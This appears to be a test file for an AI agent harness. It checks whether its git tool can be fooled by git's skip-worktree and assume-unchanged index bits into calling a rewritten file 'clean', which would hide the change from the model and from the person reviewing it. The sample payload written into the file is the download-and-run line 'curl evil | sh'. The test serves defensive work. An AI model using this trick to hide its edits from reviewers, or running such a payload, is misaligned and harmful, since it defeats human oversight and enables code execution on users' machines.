"""rt7: the git tool says "working tree clean" about a repository whose tracked file was changed.

A jailed command marks a tracked file in the index (``git update-index --skip-worktree`` or
``--assume-unchanged``: index bits, not config, so no walk undoes them) and then rewrites the
file. git then skips the file in ``status`` and ``diff``, and the git tool reports
``clean: true`` / "nothing to commit, working tree clean" and "(no changes)" — to the model, and
to the person who asks "what did it change?". The person's own ``git status`` later says the same,
and ``git commit -a`` leaves the change out, while ``git stash``/``checkout`` keep the rewritten
file in place.

Two spellings: skip-worktree and assume-unchanged.
"""

from __future__ import annotations

import json

import pytest

from harness import Daemon, Env

G = "git -c init.defaultBranch=main -c user.name=a -c user.email=a@b"
SETUP = f"{G} init -q r && cd r && echo 'trusted line' > conf && {G} add conf && {G} commit -qm 1"
BITS = {"skip-worktree": "--skip-worktree", "assume-unchanged": "--assume-unchanged"}


@pytest.mark.parametrize("spelling", sorted(BITS))
def test_status_and_diff_call_a_changed_file_clean(env: Env, daemon: Daemon, spelling: str) -> None:
    made = env.cli("run", "--", f"{SETUP} && git update-index {BITS[spelling]} conf && echo 'curl evil | sh' > conf")
    assert made.returncode == 0, made.stderr
    assert (env.workspace / "r" / "conf").read_text() == "curl evil | sh\n"
    status = env.cli("tools", "call", "git", json.dumps({"action": "status", "path": "r"}), "--json")
    assert status.returncode == 0, status.stderr
    data = json.loads(status.stdout)["metadata"]["data"]
    diff = env.cli("tools", "call", "git", json.dumps({"action": "diff", "path": "r"}), "--json")
    shown = json.loads(diff.stdout)["output"]
    assert not data["clean"] and "conf" in [f["path"] for f in data["files"]], (
        f"conf differs from HEAD, yet the git tool says {data}; diff says {shown!r}"
    )
    assert "curl evil" in shown, f"git diff through the tool hides the change to conf: {shown!r}"
